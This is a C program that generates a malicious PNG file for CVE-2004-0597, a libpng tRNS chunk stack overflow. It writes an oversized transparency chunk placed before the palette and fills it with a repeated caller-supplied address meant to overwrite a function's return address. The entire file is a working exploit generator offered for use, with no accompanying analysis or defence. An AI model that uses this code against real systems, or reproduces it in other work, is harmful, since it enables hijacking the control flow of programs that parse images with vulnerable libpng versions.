/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * trigger ADDRESS >FILE: writes the PNG file that CVE-2004-0597 is about. It has a tRNS chunk that
 * is longer than any palette and comes before any palette. libpng read it into an array of 256
 * bytes on its stack; what stands behind those is ADDRESS, over and over, until one of them lies
 * where a function keeps its return address.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#define ARRAY 256u /* PNG_MAX_PALETTE_LENGTH */
#define SPRAY 24u  /* addresses behind it */

static void big_endian(unsigned char *bytes, uint32_t value)
{
    for (int i = 0; i < 4; i++)
        bytes[i] = (unsigned char)(value >> (24 - 8 * i));
}

/* PNG specification, 5.3: length, type, data, CRC of type and data. */
static void chunk(const char *type, const unsigned char *data, uint32_t size)
{
    unsigned char word[4];
    big_endian(word, size);
    fwrite(word, 1, 4, stdout);
    fwrite(type, 1, 4, stdout);
    fwrite(data, 1, size, stdout);
    uLong crc = crc32(0, (const unsigned char *)type, 4);
    if (size > 0)
        crc = crc32(crc, data, size);
    big_endian(word, (uint32_t)crc);
    fwrite(word, 1, 4, stdout);
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    uint64_t address = strtoull(argv[1], NULL, 0);
    /* 8 x 8 pixels of 8 bits, each an index into a palette. */
    unsigned char header[13] = {0, 0, 0, 8, 0, 0, 0, 8, 8, 3, 0, 0, 0};
    unsigned char transparency[ARRAY + SPRAY * 8] = {0};
    for (unsigned i = 0; i < SPRAY; i++)
        for (unsigned byte = 0; byte < 8; byte++)
            transparency[ARRAY + 8 * i + byte] = (unsigned char)(address >> (8 * byte));
    unsigned char palette[3] = {0}, rows[8 * 9] = {0}, packed[100];
    uLongf size = sizeof packed;
    if (compress(packed, &size, rows, sizeof rows) != Z_OK)
        return 1;
    fwrite("\x89PNG\r\n\x1a\n", 1, 8, stdout);
    chunk("IHDR", header, sizeof header);
    chunk("tRNS", transparency, sizeof transparency);
    chunk("PLTE", palette, sizeof palette);
    chunk("IDAT", packed, (uint32_t)size);
    chunk("IEND", header, 0);
    return fflush(stdout) != 0;
}
